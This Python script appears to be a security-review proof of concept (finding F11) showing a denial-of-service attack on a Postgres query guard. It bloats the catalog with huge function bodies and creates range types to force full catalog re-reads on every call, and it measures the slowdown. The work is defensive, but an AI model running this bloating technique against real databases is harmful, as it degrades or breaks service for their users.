"""attack2 / F11: any role that can create a function anywhere makes every guarded call slow
(measured: 40 MB of bodies, 589 ms a call; 180 MB, 2.7 s and 1 GB RSS; not tried: past 1 GB the
json_agg value cannot be built at all, which should make every check fail). The guard's catalog read (safety.CATALOG) carries the whole source of
every user function, reached or not, as one json_agg value; a change to any "small catalog"
(pg_cast, pg_range, pg_opclass, ... any row a role creates there, e.g. CREATE TYPE ... AS RANGE
in its own schema) invalidates every verdict's digest, so the next call of every statement reads
the whole catalog again. The attacker pads the catalog with large function bodies once, then
creates a range type before each call (here) or in a loop (in reality).
Usage: PYTHONPATH=tests:security-review uv run python security-review/dos_catalog_bloat.py [reader|postgres] [N] [MB]"""
import asyncio, json, resource, statistics, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool

SQL = "SELECT id, name FROM public.users WHERE id = 1"

async def timed(c, n: int, a=None) -> list[float]:
    out = []
    for i in range(n):
        if a is not None:
            await a.execute(f"CREATE TYPE atk.bloat_r{i} AS RANGE (subtype = int)")
        t0 = time.monotonic()
        ok, body = await tool(c, "execute_query", sql=SQL)
        out.append(time.monotonic() - t0)
        if not ok:
            print("  call failed:", json.dumps(body.get("error", body))[:300])
    return out

async def main(role: str, count: int, mb: int) -> None:
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute("DO $$DECLARE r record; BEGIN FOR r IN SELECT typname FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'atk' AND typname LIKE 'bloat_r%' AND typtype = 'r' LOOP EXECUTE format('DROP TYPE atk.%I CASCADE', r.typname); END LOOP; FOR r IN SELECT proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'atk' AND proname LIKE 'bloat_f%' LOOP EXECUTE format('DROP FUNCTION atk.%I()', r.proname); END LOOP; END$$")
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        base = await timed(c, 5)
        print(f"no bloat, no change: median {statistics.median(base)*1000:.1f} ms")
        base_t = await timed(c, 5, a)
        print(f"no bloat, a range type created before each call: median {statistics.median(base_t)*1000:.1f} ms")
        await a.execute("DO $$DECLARE r record; BEGIN FOR r IN SELECT typname FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'atk' AND typname LIKE 'bloat_r%' AND typtype = 'r' LOOP EXECUTE format('DROP TYPE atk.%I CASCADE', r.typname); END LOOP; END$$")
        t0 = time.monotonic()
        for i in range(count):
            await a.execute(f"DO $d$BEGIN EXECUTE format('CREATE FUNCTION atk.bloat_f{i}() RETURNS int "
                            f"LANGUAGE sql AS %L', 'SELECT 1 /*' || repeat('x', {mb} * 1024 * 1024) || '*/'); END$d$")
        print(f"attacker created {count} functions of {mb} MB each in {time.monotonic()-t0:.1f}s")
        # functions are not reached by the statement: the first call re-reads once (new rows)
        bl = await timed(c, 5)
        print(f"bloat, no further change: median {statistics.median(bl)*1000:.1f} ms, first {bl[0]*1000:.0f} ms")
        bt = await timed(c, 5, a)
        print(f"bloat, a range type created before each call: median {statistics.median(bt)*1000:.1f} ms (max {max(bt)*1000:.0f} ms)")
        print(f"client+server process max RSS: {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss/1024:.0f} MB")
    await a.execute("DO $$DECLARE r record; BEGIN FOR r IN SELECT typname FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'atk' AND typname LIKE 'bloat_r%' AND typtype = 'r' LOOP EXECUTE format('DROP TYPE atk.%I CASCADE', r.typname); END LOOP; FOR r IN SELECT proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'atk' AND proname LIKE 'bloat_f%' LOOP EXECUTE format('DROP FUNCTION atk.%I()', r.proname); END LOOP; END$$")
    await a.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader",
                     int(sys.argv[2]) if len(sys.argv) > 2 else 20, int(sys.argv[3]) if len(sys.argv) > 3 else 2))
